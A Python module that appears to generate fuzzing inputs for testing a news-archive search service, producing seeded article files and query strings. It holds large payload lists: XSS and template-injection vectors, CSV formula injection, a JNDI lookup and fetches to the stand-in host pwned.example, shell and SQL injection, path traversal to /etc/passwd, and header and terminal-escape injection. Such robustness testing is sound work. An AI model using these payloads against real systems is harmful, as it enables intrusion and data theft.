"""Captures and queries of somebody who wants to break out: into markup, scripts, headers, tables, citations, terminals.

Everything is drawn from a seed. What a payload would do, if it ran, is to say PWNED to the console, in a dialog, on the
window, or to a server elsewhere.
"""

from __future__ import annotations

import html
import json
import os
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote

PWNED = "pwned"
ELSEWHERE = "pwned.example"
INJECTED = "X-Pwned"  # a header that no answer of ours has
COMMON = "harbour"  # a word of each capture
SEED = 7
CASES = int(os.environ.get("DATELINE_BREAKOUTS", "300"))  # of captures, and of queries

_ACTS = (
    f"window.{PWNED}=1",
    f"alert('{PWNED}')",
    f"console.log(`{PWNED}`)",
    "print()",
    f"fetch('//{ELSEWHERE}/')",
    f"location='https://{ELSEWHERE}/'",
    f"document.title=`{PWNED}`",
    f"import('//{ELSEWHERE}/x.js')",
)
_VECTORS = (
    "<script>{}</script>", "<ScRiPt >{}</sCrIpT >", "<script/x>{}</script>", "<script\n>{}//",
    "<script src=//%s></script>", "<img src=x onerror={}>", "<img/src=x/onerror={}>", '<img src=x onerror="{}"',
    "<image src=x onerror={}>", "<svg onload={}>", "<svg/onload={}>", "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><use href='data:image/svg+xml,<svg id=x onload={}>#x'>",
    "<svg><a xlink:href=javascript:{}><text y=9>x</text></a>", "<math><a xlink:href=javascript:{}>x</a></math>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror={}>", "<body onload={}>",
    "<details open ontoggle={}>", "<input autofocus onfocus={}>", "<select autofocus onfocus={}>",
    "<video><source onerror={}></video>", "<audio src=x onerror={}>", "<marquee onstart={}>",
    "<p style=x onclick={}>x", "<iframe srcdoc='<script>parent.{}</script>'></iframe>", "<iframe src=javascript:{}>",
    "<object data=javascript:{}>", "<embed src=data:text/html,<script>{}</script>>",
    "<form action=javascript:{}><button autofocus>x</button></form>", "<a href=javascript:{}>x</a>",
    "<a href='java\tscript:{}'>x</a>", "<a href='&#106;avascript:{}'>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<meta http-equiv=refresh content=0;url=//%s>",
    "<base href=//%s/>", "<link rel=stylesheet href=//%s>", "<style>@import '//%s';</style>", "<img src=//%s/i.png>",
    "<style>*{{background:url(//%s)}}</style>", "<p style='background:url(//%s)'>x</p>",
    "<x contenteditable onblur={}>x", "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<!--><img src=x onerror={}>-->", "<![CDATA[<svg onload={}>]]>", "<template><svg onload={}></template>",
    "<dialog open onclose={}>", "<plaintext>{}", "<textarea autofocus onfocus={}>", "javascript:{}",
    "data:text/html,<script>{}</script>", "vbscript:{}", "' onmouseover={} x='", '" autofocus onfocus="{}" x="',
    "{{{{constructor.constructor('{}')()}}}}", "{{{{7*7}}}}{}", "{{% for x in ().__class__ %}}{}", "${{{}}}",
    "#{{{}}}", "<%= 7*7 %>{}", "[[{}]]", "*{{{}}}", "';{}//", '";{}//', "`;{}//", "\\';{}//",
    "</script><script>{}</script>", "*/{}/*",
)  # fmt: skip
_BREAKS = (
    "", "", "", '">', "'>", ">", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "*/", '"}];',
    '\\"', "</noscript>", "`>", "</mark>", "</a>", "\n\n", '"/>', "</xmp>", "</svg>", "</p></main>", "--!>",
    "&quot;>", "\\u0022>",
)  # fmt: skip
_RECORDS = (
    f"\r\n{INJECTED}: 1", f"\n{INJECTED}: 1\n\n<script>{_ACTS[0]}</script>", f"\u0085{INJECTED}: 1",
    f"嘊嘍{INJECTED}: 1", f'"; filename="{PWNED}.exe"; x="', "\r\nER  - \r\nTY  - NEWS\r\nTI  - pwned\r\n",
    "\nAB  - pwned", "  - ", "\u2028TY  - pwned", "}}\n@misc{pwned, title={pwned}", "},\n  note = {pwned", "{", "}",
    "\\", "\\input{/etc/passwd}", "%\n@comment{", '"} @string{a="', "=cmd|'/C calc'!A0", "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|'x'", "@SUM(1+1)", "\t=1+1", "\r=1+1", "＝1+1", "|=1", '","=1+1',
    '=HYPERLINK("https://pwned.example?"&A1)', "'=1+1", " =1+1", '"\n=1+1', ";=1+1;", "\x1b[2J\x1b]0;pwned\x07",
    "\x1b]8;;https://pwned.example\x07x\x1b]8;;\x07", "\x08" * 20, "\x9b31m", '{"pwned": 1}', '"},"pwned":{"',
    "\\u0000", "\\ud800", "//*", "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY a 'b'>]>&a;", "]]><pwned/>",
    "&lt;pwned&gt;", "&pwned;", "&#0;", "&#x0;", "../../etc/passwd", "..\\..\\pwned", "%2e%2e%2f", "/etc/passwd", "~",
    "${jndi:ldap://pwned.example/a}", "$(touch pwned)", "`touch pwned`", "; touch pwned", "| touch pwned", "%n%s%x%d",
    "__import__('os')", "' OR 1=1 --", "1; DROP TABLE x", "*)(uid=*", "' or '1'='1", "*", "?", "AND OR NOT",
    "((((((((", '"', "~9999999999", "title:",
)  # fmt: skip
_ODDITIES = (
    "\u202e\u2066txt.exe\u2069", "\u202etpircs\u202c", "\u061c\u200f", "a\u200bb\u200cc\u200dd\ufeffe\u2060f",
    "\u00ad" * 40, "e" + "\u0301" * 400, "\u0489" * 90 + "Z" + "\u0316\u0317" * 90, "\u115f\u3164\uffa0",
    "\U000e0001\U000e0041\U000e007f", "W" * 3000, "ё" * 1200, "東" * 900, "-" * 2000, "a." * 900,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 30, "x\u0000y", "\ud800", "\udfff\ud800", "x\udcffy",
    "\ufffe\uffff", "\U0010ffff", "\x00", "\x01\x02\x1f\x7f\x9f", "\u2028\u2029", "\x0b\x0c", "ﷺ" * 60,
    "ŉ ǰ ΐ ﬃ ẞ İ ı", "K Å Ω", "１２３＜＞", "<scrıpt>", "ﬁle", "𝓱𝓪𝓻𝓫𝓸𝓾𝓻",
    "\ua66f\u20dd" * 30, "क्षि" * 100, "ᄀᄀᄀ각ᆨᆨ" * 60,
)  # fmt: skip

Disguise = Callable[[str], str]
_DISGUISES: tuple[Disguise, ...] = (
    str,
    str,
    str,
    str,
    html.escape,
    lambda text: html.escape(html.escape(text)),
    lambda text: "".join(f"&#{ord(sign)};" if sign in "<>\"'" else sign for sign in text),
    lambda text: "".join(f"&#x{ord(sign):06x}" if sign in "<>\"'" else sign for sign in text),
    lambda text: quote(text, errors="replace"),
    lambda text: quote(quote(text, errors="replace")),
    lambda text: text.replace("<", "＜").replace(">", "＞"),
    lambda text: text.replace("<", "\u003c\x00").replace("on", "o\x00n"),
    lambda text: text.replace("script", "scr\tipt").replace("=", "\n=\n"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda text: text.replace("<", "<\u200b").replace("script", "ſcript"),
    str.upper,
    str.swapcase,
    lambda text: text.replace(" ", "/**/"),
    lambda text: f"\u202e{text}\u202c",
)
_SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}", " javascript:{}", "\x01javascript:{}",
    "&#106;avascript:{}", "javascript&colon;{}", "javascript://%s/%%0a{}", "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD4=", "vbscript:{}", "view-source:javascript:{}", "feed:javascript:{}",
    "blob:null/{}", "//%s/", "\\\\%s\\", "https:javascript:{}", "https:/%s", "http://[::1",
    "https://%s\r\nX-Pwned: 1", "file:///etc/passwd", 'https://a.example/"onmouseover={} x="',
    "https://a.example/'><script>{}</script>", "https://user:pw@a.example/{}", "https://a.example/\u202egnp.js",
    "http://a.example:99999999/", "https://\ud800.example/", "https://xn--/", "http:///{}",
)  # fmt: skip


def payload(draw: random.Random) -> str:
    kind = draw.random()
    if kind < 0.6:
        text = draw.choice(_BREAKS) + _armed(draw.choice(_VECTORS), draw)
    elif kind < 0.85:
        text = draw.choice(_RECORDS)
    else:
        text = draw.choice(_ODDITIES)
    return draw.choice(_DISGUISES)(text)


def address(draw: random.Random) -> str:
    """What a capture says to be the address of its original."""
    return _armed(draw.choice(_SCHEMES), draw)


def _armed(template: str, draw: random.Random) -> str:
    return template.replace("%s", ELSEWHERE).replace("%%", "%").format(draw.choice(_ACTS))


@dataclass(frozen=True, slots=True)
class Capture:
    """name: of its file, in bytes, which may be no text"""

    name: bytes
    data: bytes


def captures(count: int, seed: int = SEED) -> Iterator[Capture]:
    """One article in each."""
    draw = random.Random(f"captures {seed}")
    for number in range(count):
        suffix, make = draw.choice(_KINDS)
        yield Capture(_name(number, draw) + suffix, make(number, draw))


def write(folder: Path, count: int) -> None:
    """Captures in a new folder, each under its name."""
    folder.mkdir()
    for capture in captures(count):
        Path(os.fsdecode(os.fsencode(folder) + b"/" + capture.name)).write_bytes(capture.data)


def _name(number: int, draw: random.Random) -> bytes:
    text = payload(draw)[: draw.choice((0, 0, 20, 60))].replace("/", "\\").replace("\0", "\\0")
    name = text.encode("utf-8", "surrogateescape" if "\udcff" in text else "replace")[:180]
    return b"%d%s%s" % (number, name, draw.choice((b"", b"", b"\xff\xfe", b"\n", b"\xe2\x80\xae", b"%00", b"?q=#")))


def _json_lines(number: int, draw: random.Random) -> bytes:
    """Fields as they stand: nothing is extracted."""
    values: dict[str, object] = {
        "id": f"{number}{payload(draw)}"[:200],
        "title": payload(draw),
        "summary": [payload(draw) for _ in range(draw.randrange(3))],
        "body": _body(number, draw),
        "author": [payload(draw) for _ in range(draw.randrange(3))],
        "publisher": payload(draw),
        "place": payload(draw),
        "published": draw.choice((None, "2012-06-07", "0001-01-01T00:00:00+23:59", "9999-12-31T23:59:59-23:59")),
        "captions": [payload(draw)],
        "language": draw.choice((None, "en", "de", payload(draw)[:20])),
        "url": address(draw),
        "path": payload(draw),
    }
    return json.dumps({name: value for name, value in values.items() if draw.random() < 0.9 or name == "body"}).encode()


def _html(number: int, draw: random.Random) -> bytes:
    """Payloads as text, as attributes and as they stand."""
    text = [draw.choice((html.escape, html.escape, str))(payload(draw)) for _ in range(8)]
    paragraphs = "".join(f"<p>{html.escape(part)}</p>" for part in _body(number, draw).split("\n\n"))
    stated = json.dumps({"@type": "NewsArticle", "headline": payload(draw), "author": {"name": payload(draw)}})
    page = f"""<!doctype html><html lang="{text[0]}"><head><title>{text[1]}</title>
<meta name="author" content="{text[2]}"><meta property="og:site_name" content="{text[3]}">
<link rel="canonical" href="{html.escape(address(draw))}"><meta property="article:published_time" content="{text[4]}">
{f'<script type="application/ld+json">{stated}</script>' if draw.random() < 0.3 else ""}</head>
<body><article><h1>{text[1]}</h1><p class="byline">By {text[5]}</p>{paragraphs}
<figure><img src="x" alt="{text[6]}"><figcaption>{text[7]}</figcaption></figure></article></body></html>"""
    return _encoded(page, draw)


def _text(number: int, draw: random.Random) -> bytes:
    return _encoded(
        f"{payload(draw)}\nBy {payload(draw)}\nJune 7, 2012\n\n{payload(draw)} - {_body(number, draw)}\n", draw
    )


def _markdown(number: int, draw: random.Random) -> bytes:
    front = {name: payload(draw) for name in ("title", "author", "publisher", "place", "language", "url", "summary")}
    stated = "".join(f"{name}: {json.dumps(value)}\n" for name, value in front.items() if draw.random() < 0.7)
    return _encoded(
        f"---\n{stated}---\n# {payload(draw)}\n\n![{payload(draw)}]({address(draw)})\n\n{_body(number, draw)}", draw
    )


def _body(number: int, draw: random.Random) -> str:
    """Different enough from every other that no two are one story."""
    words = " ".join(
        f"{COMMON if not place else ''} {draw.choice(_WORDS)}{draw.randrange(9999)}" for place in range(20)
    )
    return f"{words} {payload(draw)}\n\nThe {COMMON} office said {payload(draw)} on day {number}, and nothing else."


def _encoded(text: str, draw: random.Random) -> bytes:
    encoding = draw.choice(
        ("utf-8",) * 6 + ("utf-16", "utf-16-le", "utf-7", "shift_jis", "iso2022_jp", "latin-1", "overlong")
    )
    if encoding != "overlong":
        return text.encode(encoding, "replace" if encoding != "utf-8" else "surrogatepass")
    return text.encode("utf-8", "replace").replace(b"<", b"\xc0\xbc").replace(b'"', b"\xe0\x80\xa2")


_WORDS = "pier storm ferry light tide rope crane quay mast buoy net hull deck sail port dock".split()
_KINDS = (
    *((b".jsonl", _json_lines),) * 4,
    *((b".html", _html),) * 2,
    (b".txt", _text),
    (b".md", _markdown),
)

_PATHS = (
    "/", "/search", "/search", "/search", "/api/search", "/api/search", "/feed.atom", "/export.csv", "/export.jsonl",
    "/why", "/api/why", "/beside", "/story", "/api/story", "/cite", "/api/similar", "/api/suggest", "/api/suggest",
    "/facets/publisher", "/api/facets/author", "/facets/{}", "/api/facets/{}", "/articles/", "/api/articles/",
    "/articles/{}", "/api/articles/{}", "/static/{}", "/static/x/{}", "/{}", "/api/{}", "/help", "/opensearch.xml",
    "/openapi.json", "/readyz",
)  # fmt: skip
_NAMES = (
    "q", "q", "q", "q", "publisher", "author", "place", "language", "from", "to", "sort", "match", "related",
    "spellings", "since", "fold", "page", "size", "cursor", "view", "kwic_sort", "id", "with", "as", "find", "order",
    "bom", "n", "lang", "{}",
)  # fmt: skip
_GOOD = {
    "sort": "newest",
    "match": "any",
    "view": "kwic",
    "size": "100",
    "page": "2",
    "fold": "0",
    "as": "ris",
    "q": COMMON,
}


def queries(count: int, seed: int = SEED) -> Iterator[str]:
    """Targets of requests."""
    draw = random.Random(f"queries {seed}")
    for _ in range(count):
        path = draw.choice(_PATHS).replace("{}", _quoted(payload(draw), draw))
        pairs = [_pair(draw) for _ in range(draw.choice((1, 1, 1, 2, 3, 6)))]
        yield f"{path}?{draw.choice('&&&;').join(pairs)}"[:7900]


def _pair(draw: random.Random) -> str:
    name = draw.choice(_NAMES)
    if name in _GOOD and draw.random() < 0.3:
        return f"{name}={_GOOD[name]}"
    name = _quoted(payload(draw)[:30], draw) if name == "{}" else name
    value = draw.choice((payload, payload, payload, address, _number))(draw)
    return f"{name}{draw.choice(('=', '=', '=', '=', '', '[]=', '=='))}{_quoted(value, draw)}"


def _number(draw: random.Random) -> str:
    return draw.choice(
        ("0", "-1", "1e9", "999999999", "9" * 400, "0x10", "١٢", "1_0", "+1", "NaN", "2012-13", "0000", "1.0", "")
    )


def _quoted(text: str, draw: random.Random) -> str:
    """In percents, sometimes such as nobody should write."""
    data = text.encode("utf-8", "surrogatepass")[:2000]
    how = draw.randrange(6)
    if how == 0:
        data = text.encode("utf-16-le", "surrogatepass")[:600]
    if how == 1:
        return "".join(f"%{byte:02x}" for byte in data)
    if how == 2:
        return quote(data, safe="") + draw.choice(
            ("%", "%zz", "%f", "%C0%BC", "%00", "%0d%0a", "%ff%fe", "%u003c", "+")
        )
    return quote(data, safe="<>'(){}$;:@!*,/" if how == 3 else "")
